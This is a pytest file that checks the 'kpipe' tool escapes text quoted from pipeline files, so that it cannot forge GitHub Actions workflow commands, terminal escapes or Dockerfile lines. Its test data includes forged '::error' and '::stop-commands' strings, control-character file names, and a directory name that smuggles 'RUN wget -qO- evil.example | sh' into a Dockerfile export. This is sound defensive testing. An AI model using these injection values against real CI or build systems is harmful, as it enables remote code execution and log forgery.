"""Issue 20.3 (kpipe's part): text quoted from the files cannot forge lines, terminal output or workflow commands.

One escaping rule per format: a text line escapes every control character (newlines included), a GitHub
annotation escapes them and then GitHub's own characters, JSON is JSON. And no line kpipe prints starts a
GitHub Actions command unless kpipe wrote it as an annotation.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hostile import run_kpipe

FORGED = "\n::error file=README.md,line=1::FORGED\n::stop-commands::x\n##[error]old syntax\n\x1b[2J\r"


def _command_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip().startswith(("::", "##["))]


def _assert_only_kpipe_annotations(text: str, fmt: str) -> None:
    commands = _command_lines(text)
    if fmt != "github":
        assert commands == [], commands
    for line in commands:  # each one kpipe's: an annotation on a project file, as GitHub parses it
        assert line.startswith(("::error ", "::warning ")), line
        properties = line[2 : line.index("::", 2)].split(" ", 1)[1]
        parsed = dict(p.split("=", 1) for p in properties.split(","))
        assert set(parsed) <= {"file", "line", "col"} and parsed["file"].startswith("pipelines/"), line
    assert "\x1b" not in text and "\r" not in text


@pytest.mark.parametrize("fmt", ["text", "json", "github"])
def test_a_name_with_newlines_cannot_forge_workflow_commands(project: Path, fmt: str) -> None:
    name = json.dumps("orders" + FORGED)  # a JSON string is a YAML double-quoted scalar
    (project / "pipelines" / "p.yaml").write_text(
        f"topics:\n  {name}: {{partitions: 1}}\nconsumers:\n  g:\n    topics: [{name}]\n    handler: a.b:c\n"
    )
    result = run_kpipe(project, "validate", "pipelines/", "--format", fmt)
    assert result.code == 1, result.text
    _assert_only_kpipe_annotations(result.text, fmt)
    if fmt == "json":
        json.loads(result.out)


@pytest.mark.parametrize("command", [["render", "pipelines/"], ["explain", "api", "pipelines/"]])
def test_render_and_explain_print_no_command_line(project: Path, command: list[str]) -> None:
    description = json.dumps("ok" + FORGED)
    (project / "pipelines" / "p.yaml").write_text(
        "# a comment that GitHub would run:\n"
        "#::error::in a comment\n"
        f"topics:\n  orders: {{partitions: 1, description: {description}}}\n"
        f"producers:\n  api:\n    topic: orders\n    config: {{client.id: {description}}}\n"
    )
    result = run_kpipe(project, *command)
    assert result.code == 0, result.text
    _assert_only_kpipe_annotations(result.text, "text")


def test_a_multi_line_block_in_render_keeps_its_lines_but_starts_no_command(project: Path) -> None:
    (project / "pipelines" / "p.yaml").write_text(
        "topics:\n  orders:\n    partitions: 1\n    description: |\n      first\n      ::error::second\n"
    )
    result = run_kpipe(project, "render", "pipelines/")
    assert result.code == 0, result.text
    _assert_only_kpipe_annotations(result.text, "text")
    assert "\\x3a:error::second" in result.out


@pytest.mark.parametrize(
    "name",
    [
        "a\n::error file=README.md::FORGED.yaml",
        "b\x1b[2J.yaml",
        "c\rd.yaml",
        "e\u2028f.yaml",
        "g\x7f.yaml",
    ],
)
@pytest.mark.parametrize("fmt", ["text", "json", "github"])
def test_a_file_name_with_a_control_character_is_refused_at_load(project: Path, name: str, fmt: str) -> None:
    (project / "pipelines" / "ok.yaml").write_text("topics:\n  orders: {partitions: 1}\n")
    (project / "pipelines" / name).write_text("topics:\n  other: {partitions: 1}\n")
    result = run_kpipe(project, "validate", "pipelines/", "--format", fmt)
    assert result.code == 1, result.text
    assert "holds a control character" in result.text
    _assert_only_kpipe_annotations(result.text, fmt)
    if fmt == "json":
        (found,) = json.loads(result.out)["diagnostics"]
        assert found["code"] == "path-control-character" and found["file"] == f"pipelines/{name}"


def test_a_directory_name_with_a_newline_is_refused_before_an_export_can_write_it(project: Path) -> None:
    """The Dockerfile attack: a schema directory named `sch x⏎RUN wget -qO- evil.example | sh⏎#`."""
    evil = project / "schemas" / "sch x\nRUN wget -qO- evil.example | sh\n#"
    evil.mkdir(parents=True)
    (evil / "order.schema.yaml").write_text("type: object\nproperties: {id: {type: string}}\n")
    (project / "pipelines" / "p.yaml").write_text(
        "schemas:\n  Order: " + json.dumps(f"../schemas/{evil.name}/order.schema.yaml") + "\n"
        "topics:\n  orders: {partitions: 1, schema: Order}\n"
    )
    for command in (["validate", "pipelines/"], ["export", "dockerfile", "pipelines/"]):
        result = run_kpipe(project, *command)
        assert result.code == 1, result.text
        assert "holds a control character" in result.text
        assert not any(line.startswith("RUN wget") for line in result.text.splitlines())


def _runner_commands(text: str) -> list[str]:
    """Lines GitHub's runner would run: `::` after any Unicode blank (its TrimStart), or a legacy `##[command]`
    anywhere in the line (its old parser looks for `##[` with IndexOf)."""
    return [line for line in text.splitlines() if line.lstrip().startswith("::") or "##[" in line]


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_a_legacy_command_inside_a_quoted_name_is_not_run(project: Path, fmt: str) -> None:
    (project / "pipelines" / "p.yaml").write_text(
        "topics:\n  orders: {partitions: 1}\n"
        'consumers:\n  g:\n    topics: ["x ##[error file=README.md]FORGED ##[stop-commands]t"]\n'
        "    handler: a.b:c\n"
    )
    result = run_kpipe(project, "validate", "pipelines/", "--format", fmt)
    assert result.code == 1, result.text
    assert _runner_commands(result.text) == []
    if fmt == "json":
        assert "x ##[error file=README.md]FORGED" in json.loads(result.out)["diagnostics"][0]["message"]


def test_render_starts_no_command_after_a_unicode_blank(project: Path) -> None:
    (project / "pipelines" / "p.yaml").write_text(
        "topics:\n  orders:\n    partitions: 1\n    description: |\n      first\n"
        "      \u00a0::error file=README.md::FORGED\n      \u3000::stop-commands::t\n",
        encoding="utf-8",
    )
    result = run_kpipe(project, "render", "pipelines/")
    assert result.code == 0, result.text
    assert _runner_commands(result.text) == []
